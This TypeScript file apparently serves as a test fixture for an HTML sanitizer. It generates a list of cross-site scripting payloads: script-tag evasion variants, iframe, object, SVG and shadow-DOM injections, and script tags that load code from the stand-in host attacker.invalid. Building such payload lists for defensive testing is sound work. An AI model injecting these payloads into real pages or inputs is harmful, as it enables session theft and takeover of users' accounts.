/** Elements that are script, or bring a document that has some. */
export function scriptTexts(): string[] {
  const inside = [
    'RUN',
    '//\nRUN',
    '<!--\nRUN\n//-->',
    'window["RUN".slice(0,5)](RUN)',
    'setTimeout("RUN")',
    'import("data:text/javascript,RUN")',
    'throw onerror=()=>RUN,1',
  ]
  const tags = [
    ['<script>', '</script>'],
    ['<SCRIPT type=module>', '</SCRIPT>'],
    ['<script\t>', '</script\t>'],
    ['<script/x>', '</script >'],
    ['</title><script>', '</script>'],
    ['<scr<script>ipt>', '</scr</script>ipt>'],
    ['<svg><script>', '</script></svg>'],
    ['"><script>', '</script>'],
    ["'-->]]><script>", '</script>'],
  ]
  return [
    ...tags.flatMap(([open, close]) => inside.map((code) => `${open}${code}${close}`)),
    ...documents,
    ...borrowed,
  ]
}

const documents = [
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
  "<iframe srcdoc='<img src=x onerror=parent.RUN>'></iframe>",
  '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  '<iframe src="/sign-in" onload=RUN></iframe>',
  '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<svg onload=parent.RUN>"></iframe>',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<object type="text/html" data="javascript:RUN"></object>',
  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=RUN /></svg>#x"/></svg>',
  '<frameset onload=RUN><frame src="javascript:RUN"></frameset>',
  '<portal src="javascript:RUN" onload=RUN></portal>',
  '<fencedframe src="javascript:RUN" onload=RUN></fencedframe>',
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="javascript:RUN"?><x onclick=RUN />',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<div><template shadowrootmode="open"><script>RUN</script></template></div>',
]

/** Script that the server itself hands out, if it were to be taken for script. */
const borrowed = [
  '<script src="data:text/javascript,RUN"></script>',
  '<script src="/api/spaces?limit=1" onload=RUN></script>',
  '<script src="//attacker.invalid/RUN.js"></script>',
  '<script nonce="" src="blob:RUN"></script>',
  '<link rel=modulepreload href="data:text/javascript,RUN" onerror=RUN>',
  '<link rel=import href="data:text/html,<script>RUN</script>">',
  '<script type=importmap>{"imports":{"x":"data:text/javascript,RUN"}}</script><script type=module>import "x"</script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//attacker.invalid/RUN"]}]}</script>',
]
